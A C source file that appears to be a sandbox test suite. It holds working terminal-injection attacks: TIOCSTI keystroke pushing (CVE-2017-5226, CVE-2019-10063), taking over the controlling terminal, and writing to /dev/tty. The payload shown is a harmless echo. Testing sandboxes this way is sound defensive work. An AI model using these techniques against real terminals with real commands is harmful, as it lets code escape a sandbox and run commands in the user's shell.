/* The terminal of the caller. */
#include "attack.h"
#include <sys/ioctl.h>
#include <termios.h>

static int push(int fd, unsigned long request)
{
    const char *text = "echo pus\"\"hed\n";
    for (; *text; text++)
        if (syscall(SYS_ioctl, fd, request, text) < 0)
            return lost("TIOCSTI");
    return won("input was pushed");
}

/* push_input: type for the caller, whose shell reads on when we are gone (CVE-2017-5226). */
ATTACK(push_input)
{
    (void)argc, (void)argv;
    return push(0, TIOCSTI);
}

/* push_input_high: the kernel looks at 32 bits of the request (CVE-2019-10063). */
ATTACK(push_input_high)
{
    (void)argc, (void)argv;
    return push(0, TIOCSTI | 1UL << 32);
}

/* take_and_push: make the terminal ours first, where it is nobody's. */
ATTACK(take_and_push)
{
    (void)argc, (void)argv;
    setsid();
    ioctl(0, TIOCSCTTY, 0);
    return push(0, TIOCSTI);
}

/* controlling TEXT: the terminal is reached without any descriptor of it. */
ATTACK(controlling)
{
    (void)argc;
    int fd = open("/dev/tty", O_RDWR);
    if (fd < 0)
        return lost("/dev/tty");
    (void)!write(fd, argv[1], strlen(argv[1]));
    return won("wrote to the caller's terminal");
}
